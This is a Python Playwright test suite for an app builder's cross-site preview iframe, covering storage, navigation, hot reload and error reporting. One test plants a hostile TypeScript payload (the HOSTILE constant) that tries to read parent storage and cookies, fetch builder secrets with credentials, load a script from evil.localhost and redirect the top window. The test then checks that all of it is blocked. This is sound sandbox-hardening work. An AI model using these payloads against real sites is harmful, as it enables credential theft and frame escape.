"""Previews in real Chromium, framed by a builder page of another site."""

from __future__ import annotations

import os
import shutil
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
import pytest_asyncio
from playwright.async_api import Browser, FrameLocator, Page, async_playwright, expect

from overskill.preview.builder import Builder
from overskill.preview.sites import Site
from tests.preview.apps import TODO, changed, edited
from tests.preview.world import World, open_world

pytestmark = pytest.mark.asyncio(loop_scope="module")

HOSTILE = """
const found: Record<string, string> = {};
const BUILDER = "%(builder)s";
const socket = () => new Promise<string>((done) => {
  const opened = new WebSocket(BUILDER.replace("http", "ws") + "/ws");
  opened.onopen = () => done("open"); opened.onerror = () => done("blocked");
});
const image = () => new Promise<string>((done) => {
  const tag = new Image(); tag.onload = () => done("open"); tag.onerror = () => done("blocked");
  tag.src = BUILDER + "/image";
});
const script = () => new Promise<string>((done) => {
  const tag = document.createElement("script"); tag.onload = () => done("open"); tag.onerror = () => done("blocked");
  tag.src = "http://evil.localhost:" + location.port + "/@v/x.js"; document.head.append(tag);
});
const attacks: Record<string, () => unknown> = {
  parentDocument: () => parent.document.title,
  parentStorage: () => parent.localStorage.getItem("secret"),
  ownStorage: () => String(localStorage.getItem("secret")) === "null" ? "blocked" : "open",
  cookies: () => document.cookie === "" ? "blocked" : document.cookie,
  cookieForAll: () => {
    document.cookie = "toss=1; domain=localhost; path=/";
    return document.cookie === "" ? "blocked" : "open";
  },
  fetchBuilder: async () => (await fetch(BUILDER + "/secret", { credentials: "include" })).text(),
  postBuilder: async () => (await fetch(BUILDER + "/secret", { method: "POST", mode: "no-cors", body: "x" })).type,
  beacon: () => navigator.sendBeacon(BUILDER + "/beacon") ? "queued" : "blocked",
  socket, image, script,
  popup: () => window.open(BUILDER) ? "open" : "blocked",
  evaluate: () => (0, eval)("1 + 1"),
  worker: async () => (await navigator.serviceWorker.register("/@v/x.js")).scope,
  camera: async () => { await navigator.mediaDevices.getUserMedia({ video: true }); return "open"; },
  leaveTop: () => { top!.location.href = "http://evil.localhost/"; return "open"; },
};
(async () => {
  for (const [name, attack] of Object.entries(attacks)) {
    const slow = new Promise((done) => setTimeout(() => done("blocked: no answer"), 1500));
    try { found[name] = String(await Promise.race([attack(), slow])); }
    catch (error) { found[name] = "blocked: " + error; }
  }
  document.getElementById("root")!.textContent = JSON.stringify(found);
})();
"""


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def browser() -> AsyncIterator[Browser]:
    async with async_playwright() as playwright:
        installed = os.environ.get("CHROMIUM") or shutil.which("chromium")
        # Playwright switches partitioned storage off, which every shipped Chromium has on; the last switch counts.
        arguments = ["--no-sandbox", "--disable-features=Translate"]
        launched = await playwright.chromium.launch(executable_path=installed, args=arguments)
        yield launched
        await launched.close()


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def browser_without_storage() -> AsyncIterator[Browser]:
    """A browser that denies a framed page of another site all storage, as Playwright's own switches make it."""
    async with async_playwright() as playwright:
        installed = os.environ.get("CHROMIUM") or shutil.which("chromium")
        launched = await playwright.chromium.launch(executable_path=installed, args=["--no-sandbox"])
        yield launched
        await launched.close()


@pytest_asyncio.fixture(loop_scope="module")
async def world(builder: Builder, toolchain: Path) -> AsyncIterator[World]:
    async with open_world(builder, toolchain) as opened:
        yield opened


@pytest_asyncio.fixture(loop_scope="module")
async def page(browser: Browser) -> AsyncIterator[Page]:
    context = await browser.new_context()
    context.set_default_timeout(60_000)
    yield await context.new_page()
    await context.close()


async def opened(page: Page, world: World, **where: object) -> FrameLocator:
    await page.goto(world.builder_page(**where))  # type: ignore[arg-type]
    return page.frame_locator("#frame")


async def painted(page: Page, build: str) -> dict[str, object]:
    """The bridge's message that `build` stands on the screen."""
    found = "(build) => messages.find((message) => message.type === 'painted' && message.build === build)"
    return await (await page.wait_for_function(found, arg=build)).json_value()


async def loads(page: Page) -> int:
    return await page.evaluate("messages.filter((message) => message.type === 'ready').length")


async def test_a_todo_app_works_in_a_cross_site_frame_and_keeps_its_storage(page: Page, world: World) -> None:
    frame = await opened(page, world)
    await frame.locator("#new").fill("Buy milk")
    await frame.locator("#add").click()
    await expect(frame.locator("li")).to_have_text("Buy milk")
    await expect(frame.locator("#add svg")).to_be_visible()
    await page.evaluate("order({ type: 'reload' })")
    await page.wait_for_function("messages.filter((message) => message.type === 'painted').length === 2")
    await expect(frame.locator("li")).to_have_text("Buy milk")
    assert await page.evaluate("strangers.length") == 0


async def test_the_app_works_where_the_browser_gives_frames_no_storage(
    browser_without_storage: Browser, world: World
) -> None:
    page = await browser_without_storage.new_page()
    frame = await opened(page, world)
    await frame.locator("#new").fill("Buy milk")
    await frame.locator("#add").click()
    await page.evaluate("order({ type: 'reload' })")
    await page.wait_for_function("messages.filter((message) => message.type === 'painted').length === 2")
    await expect(frame.locator("li")).to_have_text("Buy milk")
    await page.close()


async def test_without_the_grant_the_frame_shows_not_found(page: Page, world: World) -> None:
    frame = await opened(page, world, session="mallory")
    await expect(frame.locator("body")).to_have_text("not found")


async def test_a_deep_link_opens_its_route_and_navigation_is_reported(page: Page, world: World) -> None:
    frame = await opened(page, world, path="/about")
    await expect(frame.locator("#about")).to_be_visible()
    await page.evaluate("order({ type: 'go', path: '/' })")
    await expect(frame.locator("#title")).to_be_visible()
    await page.evaluate("order({ type: 'back' })")
    await expect(frame.locator("#about")).to_be_visible()
    paths = await page.evaluate("messages.filter((message) => message.type === 'nav').map((message) => message.path)")
    assert paths[0] == "/about" and "/" in paths and not any("__grant" in path for path in paths)


async def test_an_edit_swaps_softly_and_keeps_the_route(page: Page, world: World) -> None:
    frame = await opened(page, world)
    await frame.locator("#to-about").click()
    await expect(frame.locator("#about")).to_have_text("About it")
    build = await world.previews.build("todo", "todo", edited(TODO, "src/main.tsx", "About it", "About that"))
    await painted(page, build.id)
    await expect(frame.locator("#about")).to_have_text("About that")
    assert await loads(page) == 1


async def test_an_edit_taken_back_shows_the_earlier_build_again(page: Page, world: World) -> None:
    frame = await opened(page, world)
    await expect(frame.locator("#title")).to_have_text("Todo")
    for text in ("Things", "Todo", "Things", "Todo"):
        await world.previews.build("todo", "todo", edited(TODO, "src/App.tsx", ">Todo<", f">{text}<"))
        await expect(frame.locator("#title")).to_have_text(text)
    assert await loads(page) == 1


async def test_a_style_edit_swaps_only_the_style_sheet(page: Page, world: World) -> None:
    frame = await opened(page, world)
    await frame.locator("#new").fill("typed, not saved")
    build = await world.previews.build("todo", "todo", edited(TODO, "src/index.css", "rgb(1, 2, 3)", "rgb(9, 8, 7)"))
    await painted(page, build.id)
    await expect(frame.locator("#title")).to_have_css("color", "rgb(9, 8, 7)")
    await expect(frame.locator("#new")).to_have_value("typed, not saved")
    assert await frame.locator("html").evaluate("() => document.querySelectorAll('link[data-app]').length") == 1
    assert await loads(page) == 1


async def test_a_build_with_problems_leaves_the_last_good_page(page: Page, world: World) -> None:
    frame = await opened(page, world)
    await expect(frame.locator("#title")).to_have_text("Todo")
    await world.previews.build("todo", "todo", changed(TODO, App="export default ("))
    build = await world.previews.build("todo", "todo", edited(TODO, "src/App.tsx", ">Todo<", ">Fixed<"))
    await painted(page, build.id)
    await expect(frame.locator("#title")).to_have_text("Fixed")


async def test_a_crashing_app_is_reported_and_the_next_build_reloads_the_page(page: Page, world: World) -> None:
    frame = await opened(page, world)
    await expect(frame.locator("#title")).to_be_visible()
    crash = 'export default function App() { throw new Error("it broke"); }'
    await world.previews.build("todo", "todo", changed(TODO, App=crash))
    error = "messages.find((message) => message.type === 'error' && message.message.includes('it broke'))"
    reported = await (await page.wait_for_function(error)).json_value()
    assert reported["line"] > 0 and "/@a/" in reported["file"]
    build = await world.previews.build("todo", "todo", edited(TODO, "src/App.tsx", ">Todo<", ">Healed<"))
    await painted(page, build.id)
    await expect(frame.locator("#title")).to_have_text("Healed")
    assert await loads(page) == 2


async def test_the_waiting_page_becomes_the_app_by_itself(page: Page, world: World) -> None:
    world.files["todo"] = {}
    frame = await opened(page, world)
    await expect(frame.locator("h1")).to_have_text("Your app will appear here")
    await page.wait_for_function("messages.some((message) => message.type === 'ready')")
    await world.previews.build("todo", "todo", TODO)
    await expect(frame.locator("#title")).to_have_text("Todo")


async def test_after_twenty_swaps_the_page_reloads(page: Page, world: World) -> None:
    await opened(page, world)
    for number in range(21):
        files = edited(TODO, "src/App.tsx", ">Todo<", f">Todo {number}<")
        await painted(page, (await world.previews.build("todo", "todo", files)).id)
    assert await loads(page) == 2


async def test_console_and_network_of_the_app_reach_the_builder_as_text(page: Page, world: World) -> None:
    app = """export default function App() {
  console.warn("careful", { deep: [1] }, new Error("inner"));
  fetch("/nothing.json");
  return <b>hi</b>;
}"""
    world.files["todo"] = changed(TODO, App=app)
    await opened(page, world)
    warned = "messages.find((message) => message.type === 'console' && message.level === 'warn')"
    args = (await (await page.wait_for_function(warned)).json_value())["args"]
    assert args[:2] == ["careful", '{"deep":[1]}'] and "inner" in args[2]
    net = await (await page.wait_for_function("messages.find((message) => message.type === 'net')")).json_value()
    assert (net["url"], net["method"], net["status"]) == ("/nothing.json", "GET", 404)


async def test_a_flood_of_messages_is_limited(page: Page, world: World) -> None:
    flood = "for (let i = 0; i < 5000; i++) console.log(i); export default () => <b>hi</b>"
    world.files["todo"] = changed(TODO, App=flood)
    frame = await opened(page, world)
    await expect(frame.locator("b")).to_have_text("hi")
    assert await page.evaluate("messages.length") <= 130


async def test_orders_of_other_windows_are_ignored(page: Page, world: World) -> None:
    frame = await opened(page, world)
    await expect(frame.locator("#title")).to_be_visible()
    await frame.locator("#title").evaluate(
        "() => window.postMessage({ src: 'builder', type: 'go', path: '/about' }, '*')"
    )
    await page.evaluate("order({ type: 'go', path: 'https://example.com/x' })")
    await page.evaluate("order({ type: 'go', path: '/about' })")
    await expect(frame.locator("#about")).to_be_visible()
    paths = await page.evaluate("messages.filter((message) => message.type === 'nav').map((message) => message.path)")
    assert paths.count("/about") == 1


async def test_a_hostile_app_finds_everything_shut(page: Page, world: World) -> None:
    builder = f"http://localhost:{world.builder_port}"
    world.files["todo"] = {**TODO, "src/main.tsx": HOSTILE % {"builder": builder}}
    frame = await opened(page, world)
    await expect(frame.locator("#root")).to_contain_text("leaveTop", timeout=30_000)
    found: dict[str, str] = await frame.locator("#root").evaluate("(root) => JSON.parse(root.textContent)")
    beacon = found.pop("beacon")  # a browser may say it queued what the policy then drops
    assert {name: said for name, said in found.items() if not said.startswith("blocked")} == {}, beacon
    assert page.url.startswith(builder)
    assert [request.url.path for request in world.seen if "/?" not in str(request.url)] in ([], ["/favicon.ico"])


async def test_a_spinning_preview_does_not_freeze_the_builder(page: Page, world: World) -> None:
    spin = """export default () => <button id="spin" onClick={() => {
  const end = Date.now() + 2500; while (Date.now() < end); console.log("spun");
}}>spin</button>"""
    world.files["todo"] = changed(TODO, App=spin)
    frame = await opened(page, world)
    await expect(frame.locator("#spin")).to_be_visible()
    await page.evaluate("gap = 0")
    await frame.locator("#spin").click(no_wait_after=True)
    await page.wait_for_function("messages.some((message) => message.type === 'console' && message.args[0] === 'spun')")
    assert await page.evaluate("gap") < 1500  # a shared process would stand still for the whole 2500 ms


async def test_a_version_runs_beside_the_app(page: Page, world: World) -> None:
    world.files["v1--todo"] = edited(TODO, "src/App.tsx", ">Todo<", ">First<")
    frame = await opened(page, world, site=Site("todo", 1))
    await expect(frame.locator("#title")).to_have_text("First")
    frame = await opened(page, world)
    await expect(frame.locator("#title")).to_have_text("Todo")
